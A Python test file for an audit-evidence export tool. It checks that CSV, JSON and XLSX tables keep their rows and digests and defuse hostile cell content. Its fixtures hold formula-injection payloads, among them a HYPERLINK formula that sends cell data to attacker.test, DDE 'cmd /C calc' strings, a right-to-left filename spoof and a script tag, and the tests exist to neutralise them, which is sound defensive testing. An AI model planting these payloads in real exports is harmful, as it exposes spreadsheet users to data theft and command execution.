"""The tables of a pack as CSV, JSON and XLSX: what they hold, and what hostile evidence cannot do in them."""

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import date

import openpyxl
import orjson
import pytest

from muniment.controls.model import DrawMethod, Sample
from muniment.controls.sampling import draw, listing, population
from muniment.evidence import digest, failed
from muniment.exports.cells import Table, as_csv, as_json, files, is_formula
from muniment.exports.tables import tables
from muniment.exports.words import Words
from muniment.exports.workbook import workbook

FORMULAS = (
    '=HYPERLINK("http://attacker.test/"&A1,"more")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "|calc",
)


@pytest.fixture(scope="module")
def hostile(sampled: Callable):
    """Every formula as the message of some record, and one text that turns round and hides."""
    texts = (*FORMULAS, "safe\u202egpj.exe\u200b\ufffe\x1b[2J\x07", "<script>alert(1)</script>", "x" * 50_000)
    return sampled(
        lambda _task, week: failed(texts[week % len(texts)], "test.hostile"),
        weeks=19,
        framework="iso-iec-27018-2025",
        controls=6,
        query="=cmd|' /C calc'!A0",
    )


def read_csv(data: bytes) -> list[dict[str, str]]:
    """The rows by column, as a program reads them."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_every_criterion_control_and_record_has_its_row(small) -> None:
    pack = small.pack()
    made = {table.name: table for table in tables(pack)}
    assert [row[1] for row in made["applicability"].rows] == [each.id for each in small.framework.criteria]
    assert [row[0] for row in made["findings"].rows] == [sheet.control.id for sheet in pack.controls]
    assert [row[1] for row in made["evidence"].rows] == [each.record.id for each in small.records]
    assert [row[-1] for row in made["evidence"].rows] == [each.digest for each in small.records]
    assert [row[0] for row in made["runs"].rows] == [1, 2, 3]
    assert [row[0] for row in made["decisions"].rows] == [each.id for each in small.decisions]
    assert [row[0] for row in made["exceptions"].rows] == [each.exception.id for each in pack.exceptions]
    assert sum(row[2] for row in made["populations"].rows) == sum(each.expected for each in pack.populations)


def test_registers_populations_gaps_and_samples_have_their_rows(small) -> None:
    period = small.pack().identity.period
    items = population(small.records, "records", period, size=small.head.size)
    words, root = "a headline of today", small.head.root
    drawn = Sample(
        id="first",
        population="records",
        period=period,
        size=2,
        seed=words,
        asked_by="R. Vale",
        on=date(2026, 11, 24),
        tree_size=small.head.size,
        root=root,
        digest=digest(listing(items)),
        of=len(items),
        drawn=draw(items, 2, seed=words, root=root, method=DrawMethod.RANDOM),
    )
    pack = replace(small, workspace=replace(small.workspace, samples=(drawn,))).pack()
    made = {table.name: [dict(zip(table.columns, row, strict=True)) for row in table.rows] for table in tables(pack)}
    assert [(row["record"], row["status"], row["seed"]) for row in made["samples"]] == [
        (id_, "pass", words) for id_ in drawn.drawn
    ]
    assert [(row["check"], row["query"], row["digest"]) for row in made["populations"]] == [
        (row.check, row.query, row.digest) for row in pack.populations
    ]
    entries = [each.id for sheet in pack.scope.registers for each in sheet.members]
    assert [row["entry"] for row in made["registers"]] == entries != []
    assert [row["id"] for row in made["schedule_gaps"]] == [gap.id for gap in pack.schedule_gaps]


def _said(value: object) -> str:
    """A value of JSON as CSV spells it."""
    return "" if value is None else ("no", "yes")[value] if isinstance(value, bool) else str(value)


def test_csv_and_json_of_a_table_say_the_same(small) -> None:
    for table in tables(small.pack()):
        rows, plain = orjson.loads(as_json(table))["rows"], read_csv(as_csv(table))
        assert len(rows) == len(plain) == len(table.rows)
        for one, other in zip(rows, plain, strict=True):
            assert {key: _said(value) for key, value in one.items()} == other


def test_no_cell_of_a_csv_file_begins_like_a_formula(hostile) -> None:
    for each in files(tables(hostile.pack())):
        if each.name.endswith(".csv"):
            for row in read_csv(each.data):
                assert not [cell for cell in row.values() if is_formula(cell)]
    evidence = next(table for table in tables(hostile.pack()) if table.name == "evidence")
    messages = {row["message"] for row in read_csv(as_csv(evidence))}
    assert "'" + FORMULAS[0] in messages
    assert {row["query"] for row in read_csv(as_csv(evidence))} == {"'=cmd|' /C calc'!A0"}


def test_json_has_the_value_as_it_is(hostile) -> None:
    evidence = next(table for table in tables(hostile.pack()) if table.name == "evidence")
    messages = {row["message"] for row in orjson.loads(as_json(evidence))["rows"]}
    assert messages >= {FORMULAS[0], "\t=1+1", "x" * 50_000}


def test_what_hides_or_turns_round_is_shown_and_what_is_long_is_cut_with_its_digest(hostile) -> None:
    evidence = next(table for table in tables(hostile.pack()) if table.name == "evidence")
    messages = {row["message"] for row in read_csv(as_csv(evidence))}
    assert "safe⟨U+202E⟩gpj.exe⟨U+200B⟩⟨U+FFFE⟩⟨U+001B⟩[2J⟨U+0007⟩" in messages
    long = next(each for each in messages if each.startswith("xxx"))
    assert len(long) < 32_767
    assert "50,000 characters, sha256 " in long
    assert long.endswith("whole in the attachment evidence.json")


def test_a_workbook_holds_no_formula_no_link_and_no_macro(hostile) -> None:
    pack = hostile.pack()
    data = workbook(pack, tables(pack), Words())
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert not [cell for cell in cells if cell.hyperlink]
    formulas = [cell for cell in cells if isinstance(cell.value, str) and is_formula(cell.value)]
    assert {cell.value for cell in formulas} >= {FORMULAS[0], "  =1+1"}
    assert all(cell.quotePrefix for cell in formulas)
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        names = parts.namelist()
        assert not [name for name in names if "externalLink" in name or "vba" in name or "sheets/_rels" in name]
        assert not any(b"<f>" in parts.read(name) for name in names if "worksheets" in name)


def test_a_workbook_has_a_cover_and_a_sheet_for_each_table(small, small_xlsx: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(small_xlsx))
    pack = small.pack(mark="DRAFT")
    assert book.sheetnames == ["Pack", *(table.title for table in tables(pack))]
    cover = {row[0].value: row[1].value for row in book["Pack"].iter_rows()}
    assert (cover["Pack"], cover["Mark"], cover["Merkle root"]) == (pack.identity.id, "DRAFT", small.head.root)
    assert cover["Evidence index"] == len(small.records)
    digests = [row[-1] for row in book["Evidence index"].iter_rows(min_row=2, values_only=True)]
    assert digests == [each.digest for each in small.records]


def test_the_same_pack_gives_the_same_workbook(small, small_xlsx: bytes) -> None:
    pack = small.pack(mark="DRAFT")
    assert workbook(pack, tables(pack), Words()) == small_xlsx


def test_a_table_without_rows_has_its_head() -> None:
    empty = Table("claims", "Public claims", ("id", "text"), ())
    assert as_csv(empty).decode("utf-8-sig") == "id,text\r\n"
    assert orjson.loads(as_json(empty))["rows"] == []
